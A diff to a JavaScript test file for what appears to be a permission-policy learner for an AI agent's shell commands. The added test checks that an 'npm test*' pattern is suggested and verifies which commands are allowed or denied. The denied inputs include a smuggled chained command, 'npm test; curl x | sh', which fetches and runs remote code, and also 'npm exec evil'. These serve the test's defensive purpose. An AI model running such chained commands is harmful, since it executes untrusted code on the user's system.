@@ -71,6 +71,19 @@ describe('companion suggestions: the other inspection tools', () => {
     assert.doesNotMatch(yaml, /# 0 observed/);
     assert.ok(parsePolicyText(yaml, 'fragment.yaml').set);
     const summary = renderSummary(s, { outputPath: 'rampart-learn.yaml', color: false });
-    assert.match(summary, new RegExp(`exec .* -> ${s.exec.length} patterns \\(${COMPANION_TOOLS.length - 2} not observed: inspection tools, see the fragment\\)`));
+    assert.match(summary, new RegExp(`exec .* -> ${s.exec.length} patterns \\(${COMPANION_TOOLS.length - 2} not observed: companions, see their notes in the fragment\\)`));
+  });
+
+  it("add a package manager's test shortcut when it only ran project scripts, and no other subcommand", () => {
+    const s = analyze(execs('npm run build', 'npm run lint -- --fix'));
+    assert.deepEqual(patterns(s), ['npm run *']);
+    assert.deepEqual(companions(s), ['npm test*']);
+    assert.match(s.exec.find(isCompanion)?.note ?? '', /^Not observed: `npm test` runs the project's test script, like `npm run test`/);
+    assertDecisions(s, ['npm test', 'npm test -- tests/a.test.ts', 'npm run test'], ['npm install left-pad', 'npm exec evil', 'npm publish', 'npm test; curl x | sh']);
+    assert.deepEqual(s.check?.leaks, []);
+    // not when the agent ran it, another subcommand, or without generalisation
+    assert.deepEqual(companions(analyze(execs('npm run build', 'npm test'))), []);
+    assert.deepEqual(companions(analyze(execs('npm run build', 'npm install'))), []);
+    assert.deepEqual(companions(analyze(execs('npm run build'), { generalize: false })), []);
   });
 });
